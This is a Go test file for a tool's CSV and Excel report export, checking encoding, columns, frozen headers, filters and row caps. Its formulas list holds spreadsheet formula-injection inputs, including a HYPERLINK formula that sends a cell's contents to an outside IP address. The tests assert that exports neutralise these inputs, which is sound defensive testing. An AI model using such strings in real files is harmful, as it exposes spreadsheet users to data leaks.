package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/oldguard/oldguard/internal/assess"
)

// formulas are host names that a spreadsheet would run.
var formulas = []string{
	`=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＠1", "\n=1",
}

func runnable(tb testing.TB) (list []*assess.Assessment) {
	for _, name := range formulas {
		list = append(list, made(tb, name, "2026-02-01", 4474419, 5050682, 5073697))
	}
	return list
}

func readCSV(t *testing.T, b []byte) []map[string]string {
	t.Helper()
	body, ok := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Error("the mark of UTF-8 is missing")
	}
	if n := bytes.Count(body, []byte("\n")); n != bytes.Count(body, []byte("\r\n")) {
		t.Error("a line does not end in CR LF")
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, cell := range row {
			m[rows[0][i]] = cell
		}
		out = append(out, m)
	}
	return out
}

func TestCSV(t *testing.T) {
	a := made(t, "FS01", "2026-02-01")
	rows := readCSV(t, written(t, "csv", Options{}, a, made(t, "FS02", "2026-02-01", 4474419, 5050682, 5073697)))
	if len(rows) != 2 {
		t.Fatalf("%d rows, want 2", len(rows))
	}
	got := map[string]string{}
	for _, k := range []string{"name", "build", "revision_inferred", "affected", "missing", "newest", "as_of", "level"} {
		got[k] = rows[0][k]
	}
	want := map[string]string{
		"name": "FS01", "build": "6.0.6002", "revision_inferred": "no", "affected": strconv.Itoa(a.Summary.Affected),
		"missing": "KB4474419 KB5050682 KB5073697", "newest": "", "as_of": "2026-02-01", "level": "bad",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if n := len(readCSV(t, written(t, "csv-findings", Options{}, a))); n != len(Open.of(a)) {
		t.Errorf("%d findings, want %d", n, len(Open.of(a)))
	}
}

// TestCSVRunsNothing: no cell begins as a formula does.
func TestCSVRunsNothing(t *testing.T) {
	for _, format := range []string{"csv", "csv-findings"} {
		rows := readCSV(t, written(t, format, Options{}, runnable(t)...))
		if len(rows) < len(formulas) {
			t.Fatalf("%d rows", len(rows))
		}
		for _, row := range rows {
			for head, cell := range row {
				if strings.IndexAny(cell, "=+-@\t\r\n＝＋－＠") == 0 {
					t.Errorf("%s: %s begins with %q", format, head, cell)
				}
			}
		}
	}
}

func TestXLSX(t *testing.T) {
	a := made(t, "FS01", "2026-02-01")
	list := []*assess.Assessment{runnable(t)[0], a}
	b := written(t, "xlsx", Options{}, list...)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if d := cmp.Diff([]string{"Hosts", "Missing", "Findings", "Undecided", "Gaps", "Sources"}, f.GetSheetList()); d != "" {
		t.Errorf("sheets (-want +got):\n%s", d)
	}
	// The library takes half a minute to parse all of it under the race detector.
	sheets, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	files := unzipped(t, sheets, "xl/worksheets/")
	for i, name := range f.GetSheetList() {
		text := files[fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1)]
		rows := bytes.Count(text, []byte("<row "))
		if rows < 2 && name != "Gaps" {
			t.Errorf("%s has %d rows", name, rows)
		}
		if !regexp.MustCompile(`<pane [^>]*ySplit="1"[^>]*state="frozen"|<pane [^>]*state="frozen"[^>]*ySplit="1"`).Match(text) {
			t.Errorf("%s: its first row does not stay", name)
		}
		if n := bytes.Count(text, []byte("<tablePart ")); rows > 1 && n != 1 {
			t.Errorf("%s: %d filters", name, n)
		}
		if bytes.Contains(text, []byte("<f>")) || bytes.Contains(text, []byte("<f ")) || !bytes.Contains(text, []byte("<c ")) {
			t.Errorf("%s has a formula, or no cell", name)
		}
	}
	hosts, _ := f.GetRows("Hosts")
	if got := hosts[1][0]; got != formulas[0] {
		t.Errorf("name %q, want %q", got, formulas[0])
	}
	want := 1
	for _, x := range list {
		want += len(Open.of(x))
	}
	findings := bytes.Count(files["xl/worksheets/sheet3.xml"], []byte("<row "))
	if findings != want {
		t.Errorf("%d rows of findings, want %d", findings, want)
	}
}

// TestXLSXFull: a full sheet says what is not in it.
// unzipped gives the files of an archive that have a prefix.
func unzipped(t *testing.T, z *zip.Reader, prefix string) map[string][]byte {
	t.Helper()
	all := map[string][]byte{}
	for _, f := range z.File {
		if !strings.HasPrefix(f.Name, prefix) || strings.HasSuffix(f.Name, ".rels") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		all[f.Name], err = io.ReadAll(r)
		if err = errors.Join(err, r.Close()); err != nil {
			t.Fatal(err)
		}
	}
	if len(all) == 0 {
		t.Fatalf("nothing in it begins with %q", prefix)
	}
	return all
}

func TestXLSXFull(t *testing.T) {
	w := openXLSX(&bytes.Buffer{}, Options{}).(*book)
	if err := w.begin(); err != nil {
		t.Fatal(err)
	}
	s := w.open[0]
	s.rows = sheetRows - 3
	row := []any{"a"}
	if err := s.add([][]any{row, row, row, row}); err != nil {
		t.Fatal(err)
	}
	if err := s.add([][]any{row}); err != nil {
		t.Fatal(err)
	}
	if s.rows != sheetRows-1 || s.left != 3 {
		t.Errorf("%d rows, %d left out", s.rows, s.left)
	}
	if err := s.close(); err != nil {
		t.Error(err)
	}
}

// TestTablesHaveHeads: no head of a table stands twice, which Excel would repair.
func TestTablesHaveHeads(t *testing.T) {
	for _, s := range append(sheets(Open), bookSources) {
		seen := map[any]bool{}
		for _, h := range s.heads {
			if seen[h] {
				t.Errorf("%s: %v stands twice", s.name, h)
			}
			seen[h] = true
		}
	}
}
